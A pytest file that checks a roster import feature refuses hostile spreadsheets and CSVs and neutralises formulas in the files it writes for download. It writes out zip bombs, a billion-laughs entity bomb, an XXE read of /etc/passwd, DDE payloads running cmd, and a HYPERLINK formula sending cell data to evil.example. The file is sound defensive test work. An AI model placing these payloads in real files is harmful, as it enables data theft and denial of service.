"""Hostile roster files: zip bombs, huge cells, endless rows, XML tricks, and formulas in cells.

Every bad file is built here, in the test, small on disk (a bomb is a few hundred KB that says it
holds hundreds of MB). Each must be refused with a clear reason, on the upload form and on the
command line, never with a 500 and never by reading the whole bomb into memory. Cells that a
spreadsheet would run as formulas are written back to error files as text.
"""
from __future__ import annotations

import io
import os
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from integrations.rosters.csv_format import CsvFormat
from integrations.rosters.xlsx_format import XlsxFormat
from plugin.access.roles import Role
from plugin.core.db import session
from plugin.core.errors import ValidationError
from plugin.core.spreadsheets import FORMULA_TRIGGERS, neutralise
from plugin.imports.formats import MAX_CELL_CHARS, MAX_COLUMNS
from plugin.imports.messages import job_failure
from plugin.imports.models import FileRole, ImportJob, ImportStatus
from plugin.imports.services import copy_file_to

from .conftest import submit
from .imports_support import (
    WORKER_HEADER,
    csv_roster,
    id_number,
    import_roster,
    read_csv,
    worker,
    wrong_check,
    xlsx_roster,
)

MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
SHEET_START = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               b'<sheetData>')
SHEET_END = b"</sheetData></worksheet>"
HEADER_ROW = ('<row r="1">' + "".join(
    f'<c r="{column}1" t="inlineStr"><is><t>{text}</t></is></c>'
    for column, text in zip("ABCDEFGH", WORKER_HEADER, strict=True)) + "</row>").encode()


# --- building bad files ------------------------------------------------------------------------

CONTENT_TYPES = b"""<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
</Types>"""
PACKAGE_RELS = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""
WORKBOOK = b"""<?xml version="1.0" encoding="UTF-8"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"""
WORKBOOK_RELS = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>
</Relationships>"""
STRINGS_START = (b'<?xml version="1.0" encoding="UTF-8"?>'
                 b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
PLAIN_STRINGS = (STRINGS_START + "".join(f"<si><t>{text}</t></si>" for text in WORKER_HEADER).encode()
                 + b"</sst>")
PLAIN_SHEET = (b'<?xml version="1.0" encoding="UTF-8"?>'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               b'<sheetData><row r="1">' + b"".join(
                   b'<c r="%s1" t="s"><v>%d</v></c>' % (column.encode(), index)
                   for index, column in enumerate("ABCDEFGH")) + b"</row>"
               b'<row r="2"><c r="A2" t="inlineStr"><is><t>1001</t></is></c>'
               b'<c r="B2" t="inlineStr"><is><t>\xe5\xbc\xa0\xe4\xbc\x9f</t></is></c></row>'
               b"</sheetData></worksheet>")


def base_xlsx(tmp_path: Path) -> Path:
    """A minimal roster, written part by part as Excel does: header in the shared strings."""
    path = tmp_path / "base.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in (("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", PACKAGE_RELS),
                              ("xl/workbook.xml", WORKBOOK),
                              ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
                              (SHEET, PLAIN_SHEET), (STRINGS, PLAIN_STRINGS)):
            out.writestr(name, content)
    return path


def rebuilt(tmp_path: Path, name: str, parts: dict) -> Path:
    """A copy of the base roster with some parts replaced. A part is bytes, or a function that
    writes it chunk by chunk (so a bomb is never whole in the test's memory either)."""
    base = base_xlsx(tmp_path)
    target = tmp_path / name
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename not in parts:
                out.writestr(info.filename, source.read(info.filename))
        for part, content in parts.items():
            if callable(content):
                with out.open(part, "w", force_zip64=True) as handle:
                    content(handle)
            else:
                out.writestr(part, content)
    return target


def repeated(prefix: bytes, unit: bytes, count: int, suffix: bytes, chunk: int = 1 << 16):
    def write(handle):
        handle.write(prefix)
        block = unit * chunk
        left = count
        while left > 0:
            step = min(left, chunk)
            handle.write(block if step == chunk else unit * step)
            left -= step
        handle.write(suffix)
    return write


def sheet_with(*rows: bytes) -> bytes:
    return SHEET_START + HEADER_ROW + b"".join(rows) + SHEET_END


def open_and_read(roster_format, path: Path) -> list:
    roster = roster_format.open(path)
    try:
        return list(roster)
    finally:
        roster.close()


def refused(roster_format, path: Path) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        open_and_read(roster_format, path)
    assert caught.value.field == "file"
    return caught.value


def peak_memory(action) -> int:
    tracemalloc.start()
    try:
        action()
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


def upload(client, path: Path, unit_id: int):
    data = {"file": (io.BytesIO(path.read_bytes()), path.name), "kind": "workers",
            "unit": str(unit_id), "source": ""}
    return submit(client, "/imports/", data, content_type="multipart/form-data")


def jobs() -> int:
    return session.execute(select(func.count(ImportJob.id))).scalar_one()


# --- XLSX: zip bombs ---------------------------------------------------------------------------

def test_a_shared_string_bomb_is_refused_by_its_declared_size_before_parsing(tmp_path):
    """The probe's file: a few hundred KB that holds one string of hundreds of MB."""
    bomb = rebuilt(tmp_path, "bomb.xlsx", {STRINGS: repeated(
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>', b"A", 300 * MB,
        b"</t></si></sst>", chunk=MB)})
    assert bomb.stat().st_size < 1 * MB
    started = time.monotonic()
    peak = peak_memory(lambda: refused(XlsxFormat(), bomb))
    assert peak < 20 * MB and time.monotonic() - started < 5
    error = refused(XlsxFormat(), bomb)
    assert "解压后" in str(error) and "MB" in str(error)


def test_a_member_compressed_beyond_any_real_spreadsheet_is_refused(tmp_path):
    """Under the size caps, but deflated a thousand to one: no roster compresses like that."""
    bomb = rebuilt(tmp_path, "ratio.xlsx", {SHEET: repeated(
        SHEET_START + HEADER_ROW, b" ", 8 * MB, SHEET_END, chunk=MB)})
    error = refused(XlsxFormat(), bomb)
    assert "压缩比" in str(error)


def test_a_size_the_zip_directory_lies_about_is_caught(tmp_path):
    """The central directory says 1 KB; the data inflates to far more: refused, not followed."""
    path = rebuilt(tmp_path, "liar.xlsx", {SHEET: sheet_with(
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"x" * 20_000 + b"</t></is></c></row>")})
    data = bytearray(path.read_bytes())
    entry = data.find(b"PK\x01\x02")
    while data[entry + 46:entry + 46 + len(SHEET)] != SHEET.encode():
        entry = data.find(b"PK\x01\x02", entry + 4)
    data[entry + 24:entry + 28] = (1024).to_bytes(4, "little")  # its declared uncompressed size
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo(SHEET).file_size == 1024
    assert "Excel" in str(refused(XlsxFormat(), path))


# --- XLSX: cells, rows and XML --------------------------------------------------------------------

def test_a_huge_cell_is_refused_while_reading_with_memory_bounded(tmp_path):
    """8 MB of text that does not compress, in one cell, under every size cap: refused at the
    cell cap while streaming, the cell never whole in memory."""
    noise = os.urandom(4 * MB).hex().encode()

    def write(handle):
        handle.write(SHEET_START + HEADER_ROW + b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
        for start in range(0, len(noise), MB):
            handle.write(noise[start:start + MB])
        handle.write(b"</t></is></c></row>" + SHEET_END)

    path = rebuilt(tmp_path, "cell.xlsx", {SHEET: write})
    peak = peak_memory(lambda: refused(XlsxFormat(), path))
    assert peak < 10 * MB
    error = refused(XlsxFormat(), path)
    assert "第 2 行" in str(error) and str(MAX_CELL_CHARS) in str(error)


def test_a_cell_made_of_many_small_runs_is_measured_whole(tmp_path):
    """Rich text: thousands of short runs that openpyxl would join into one long string."""
    runs = b"".join(b"<r><t>" + b"y" * 100 + b"</t></r>" for _ in range(400))
    path = rebuilt(tmp_path, "runs.xlsx", {SHEET: sheet_with(
        b'<row r="2"><c r="B2" t="inlineStr"><is>' + runs + b"</is></c></row>")})
    assert "第 2 行" in str(refused(XlsxFormat(), path))


def test_a_million_cell_row_is_refused_quickly(tmp_path):
    path = rebuilt(tmp_path, "million.xlsx", {SHEET: repeated(
        SHEET_START + HEADER_ROW + b'<row r="2">', b"<c><v>1</v></c>", 1_000_000,
        b"</row>" + SHEET_END)})
    started = time.monotonic()
    peak = peak_memory(lambda: refused(XlsxFormat(), path))
    assert time.monotonic() - started < 5 and peak < 10 * MB
    assert "Excel" in str(refused(XlsxFormat(), path))


def test_a_row_wider_than_excel_allows_is_refused_while_streaming(tmp_path):
    cells = b"".join(b"<c><v>%d</v></c>" % number for number in range(MAX_COLUMNS + 1))
    path = rebuilt(tmp_path, "wide.xlsx", {SHEET: sheet_with(b'<row r="2">' + cells + b"</row>")})
    peak = peak_memory(lambda: refused(XlsxFormat(), path))
    assert peak < 10 * MB
    error = refused(XlsxFormat(), path)
    assert "第 2 行" in str(error) and str(MAX_COLUMNS) in str(error)


def test_a_huge_shared_string_is_refused(tmp_path):
    strings = STRINGS_START + b"<si><t>" + b"z" * (MAX_CELL_CHARS + 1) + b"</t></si></sst>"
    error = refused(XlsxFormat(), rebuilt(tmp_path, "strings.xlsx", {STRINGS: strings}))
    assert str(MAX_CELL_CHARS) in str(error)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
""" + HEADER_ROW + b"""<row r="2"><c r="A2" t="inlineStr"><is><t>&secret;</t></is></c></row>
</sheetData></worksheet>"""


@pytest.mark.parametrize("part,content", [
    (STRINGS, BILLION_LAUGHS),
    (SHEET, EXTERNAL_ENTITY),
    ("xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/x.dtd">'
                        + WORKBOOK[WORKBOOK.index(b"<workbook"):]),
], ids=["billion-laughs", "external-entity", "external-dtd"])
def test_xml_with_a_dtd_or_entities_is_refused(tmp_path, part, content):
    error = refused(XlsxFormat(), rebuilt(tmp_path, "dtd.xlsx", {part: content}))
    assert "DTD" in str(error) and "root:" not in str(error)


@pytest.mark.parametrize("content", [
    SHEET_START + HEADER_ROW + b'<row r="2"><c r="A2"><v>1</v></row>' + SHEET_END,  # not closed
    b"\x00\x01 not xml at all",
    # A comment is held whole by a parser, however many "<" it contains.
    sheet_with(b"<row r='2'><c r='A2'><!--" + b"a<" * 200_000 + b"--><v>1</v></c></row>"),
], ids=["unclosed", "binary", "huge-comment"])
def test_malformed_sheet_xml_is_refused_with_a_reason(tmp_path, content):
    error = refused(XlsxFormat(), rebuilt(tmp_path, "bad.xlsx", {SHEET: content}))
    assert "Excel" in str(error)


def test_a_cell_address_beyond_excel_is_refused(tmp_path):
    path = rebuilt(tmp_path, "far.xlsx", {SHEET: sheet_with(
        b'<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>')})
    assert "Excel" in str(refused(XlsxFormat(), path))


def test_an_ordinary_workbook_still_reads_with_the_guards_on(tmp_path):
    rows = open_and_read(XlsxFormat(), base_xlsx(tmp_path))
    assert [cells[:2] for _, cells in rows] == [WORKER_HEADER[:2], ["1001", "张伟"]]
    path = xlsx_roster(tmp_path / "ok.xlsx", WORKER_HEADER,
                       [worker("1001", "张伟"), worker("1002", "李" * 20)], title=None, date_row=None)
    rows = open_and_read(XlsxFormat(), path)
    assert [cells[:2] for _, cells in rows] == [
        WORKER_HEADER[:2], ["1001", "张伟"], ["1002", "李" * 20]]


# --- CSV ---------------------------------------------------------------------------------------

def test_a_ten_megabyte_header_line_is_refused_quickly(tmp_path):
    path = tmp_path / "long.csv"
    path.write_bytes(b"\xe5\xb7\xa5\xe5\x8f\xb7," + b"x" * (10 * MB) + b"\n1001\n")
    started = time.monotonic()
    peak = peak_memory(lambda: refused(CsvFormat(), path))
    assert time.monotonic() - started < 5 and peak < 30 * MB
    assert "第 1 行" in str(refused(CsvFormat(), path))


def test_a_row_with_too_many_fields_is_refused(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text("工号,姓名\n" + ",".join(["1"] * (MAX_COLUMNS + 1)) + "\n", encoding="utf-8")
    error = refused(CsvFormat(), path)
    assert "第 2 行" in str(error) and str(MAX_COLUMNS) in str(error)


def test_a_cell_longer_than_a_spreadsheet_allows_is_refused(tmp_path):
    path = tmp_path / "cell.csv"
    path.write_text("工号,姓名\n1001," + "张" * (MAX_CELL_CHARS + 1) + "\n", encoding="utf-8")
    error = refused(CsvFormat(), path)
    assert "第 2 行" in str(error) and str(MAX_CELL_CHARS) in str(error)


def test_a_quoted_field_spanning_endless_lines_is_refused(tmp_path):
    path = tmp_path / "quoted.csv"
    path.write_text('工号,姓名\n1001,"' + "张\n" * 600_000 + '"\n', encoding="utf-8")
    assert "第 2 行" in str(refused(CsvFormat(), path))


# --- where people meet the refusal: the upload form and the command line --------------------------

def bad_files(tmp_path: Path) -> dict[str, Path]:
    long_line = tmp_path / "long.csv"
    long_line.write_bytes(b"\xe5\xb7\xa5\xe5\x8f\xb7," + b"x" * (10 * MB) + b"\n")
    return {
        "bomb.xlsx": rebuilt(tmp_path, "bomb.xlsx", {STRINGS: repeated(
            b"<sst><si><t>", b"A", 100 * MB, b"</t></si></sst>", chunk=MB)}),
        "wide.xlsx": rebuilt(tmp_path, "wide.xlsx", {SHEET: repeated(
            SHEET_START + HEADER_ROW + b'<row r="2">', b"<c><v>1</v></c>", 20_000,
            b"</row>" + SHEET_END)}),
        "laughs.xlsx": rebuilt(tmp_path, "laughs.xlsx", {STRINGS: BILLION_LAUGHS}),
        "broken.xlsx": rebuilt(tmp_path, "broken.xlsx", {SHEET: b"<worksheet><sheetData><row>"}),
        "long.csv": long_line,
    }


def test_bad_files_are_refused_on_the_upload_form_with_a_reason(app, company, make_user, login,
                                                                tmp_path):
    client = login(make_user(Role.HR_OFFICER))
    expected = {"bomb.xlsx": "解压后", "wide.xlsx": str(MAX_COLUMNS), "laughs.xlsx": "DTD",
                "broken.xlsx": "无法读取这个 Excel 文件", "long.csv": "太长"}
    for name, path in bad_files(tmp_path).items():
        response = upload(client, path, company.id)
        assert response.status_code == 422, (name, response.status_code)
        assert expected[name] in response.text, name
    assert jobs() == 0


def test_bad_files_fail_on_the_command_line_with_exit_status_2(app, company, clock, tmp_path):
    for name, path in bad_files(tmp_path).items():
        result = app.test_cli_runner().invoke(args=["import-workers", str(path)])
        assert result.exit_code == 2, (name, result.output)
        assert "内部错误" not in result.output and "Traceback" not in result.output, name
    failed = session.execute(select(ImportJob)).scalars().all()
    assert len(failed) == 5 and all(job.status == ImportStatus.FAILED for job in failed)
    assert all("内部错误" not in str(job_failure(job)) for job in failed)


# --- formulas in error files ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def formula_rows() -> list[list]:
    bad = wrong_check(id_number(sequence="321"))
    return [worker(str(2000 + index), text, id=bad, site=text, team="钢筋班组")
            for index, text in enumerate(FORMULAS)]


def test_neutralise_follows_owasp():
    assert [neutralise(text)[0] for text in FORMULAS] == ["'"] * len(FORMULAS)
    assert neutralise("张伟") == "张伟" and neutralise("") == "" and neutralise(None) is None
    assert neutralise(-5) == -5  # numbers stay numbers
    assert set("=+-@\t\r") <= set(FORMULA_TRIGGERS)


def test_csv_error_file_neutralises_formulas_and_reads_back_as_sent(company, clock, tmp_path):
    header = [*WORKER_HEADER[:-1], "=入职日期"]  # a header is the user's text too
    path = csv_roster(tmp_path / "r.csv", header, formula_rows())
    job, _ = import_roster(path, company)
    assert job.rejected_count == len(FORMULAS)
    error_path = tmp_path / "r.errors.csv"
    copy_file_to(job.id, FileRole.ERRORS, error_path)
    content = read_csv(error_path)
    assert content[0][-2] == "'=入职日期"
    for row, text in zip(content[1:], FORMULAS, strict=True):
        assert row[1] == "'" + text and row[5] == "'" + text, row
    for row in content:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_TRIGGERS, cell
    # Imported again, the cells are what the person sent, not what the file had to say.
    roster = CsvFormat().open(error_path)
    try:
        cells = [cells for _, cells in roster]
    finally:
        roster.close()
    assert [row[1] for row in cells[1:]] == FORMULAS


def test_xlsx_error_file_writes_formulas_as_text(company, clock, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(WORKER_HEADER)
    for row in formula_rows():
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":  # typed as text in Excel ('=…): a string cell, not a formula
                cell.data_type = "s"
    path = tmp_path / "r.xlsx"
    book.save(path)
    job, _ = import_roster(path, company)
    assert job.rejected_count == len(FORMULAS)
    error_path = tmp_path / "r.errors.xlsx"
    copy_file_to(job.id, FileRole.ERRORS, error_path)
    with zipfile.ZipFile(error_path) as archive:
        sheet_xml = b"".join(archive.read(name) for name in archive.namelist()
                             if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    written = load_workbook(error_path).worksheets[0]
    names = [row[1] for row in written.iter_rows(min_row=2)]
    sites = [row[5] for row in written.iter_rows(min_row=2)]
    # XML turns a carriage return into a line feed: "\r=1+1" comes back as "\n=1+1", harmless.
    sent = [text.replace("\r", "\n") for text in FORMULAS]
    assert [cell.value for cell in names] == sent and [cell.value for cell in sites] == sent
    for cell in names + sites:
        assert cell.data_type == "s"
        assert cell.quotePrefix or not cell.value.startswith(FORMULA_TRIGGERS)


def test_lecture_sign_in_sheet_writes_names_as_text(make_unit, make_worker, make_user, login,
                                                   clock):
    """The same helper guards every spreadsheet the portal writes for download."""
    from plugin.org.models import OrgKind

    from .lectures_support import attend, make_lecture

    site = make_unit(OrgKind.SITE, name="+cmd|' /C calc'!A0")
    lecture = make_lecture(site, title="@SUM(1+1)")
    attend(lecture, make_worker(site, employee_number="-E1", name="=1+1"), minutes_after_start=-10)
    manager = login(make_user(Role.SITE_MANAGER, site))
    response = manager.get(f"/lectures/{lecture.id}/sign-in-sheet.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = b"".join(archive.read(name) for name in archive.namelist()
                             if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    texts = [cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS]
    assert {cell.value for cell in texts} >= {"=1+1", "-E1", "+cmd|' /C calc'!A0"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)


@pytest.mark.parametrize("xml,verdict", [
    (b"<a>" + b"x" * 1000 + b"</a>", "read"),
    (b"<a><!-- note --><b>1</b><![CDATA[ <x> ]]></a>", "read"),
    (b"<t>" + b"<!--c-->x" * 40_000 + b"</t>", "refused"),  # one run of text, comments and all
    (b"<t>" + b"<![CDATA[" + b"y<" * 150_000 + b"]]></t>", "refused"),
])
def test_the_xml_run_guard_judges_alike_however_the_bytes_are_chunked(xml, verdict):
    from integrations.rosters.xlsx_format import _TokenGuard

    def judge(sizes) -> str:
        guard, at = _TokenGuard(), 0
        try:
            for size in sizes:
                guard.feed(xml[at:at + size], final=False)
                at += size
            guard.feed(xml[at:], final=False)
            guard.feed(b"", final=True)
        except ValidationError:
            return "refused"
        return "read"

    for sizes in ([len(xml)], [1] * 3000, [3, 7] * (len(xml) // 10 + 1), [65536] * 8):
        assert judge(sizes) == verdict, sizes[:4]
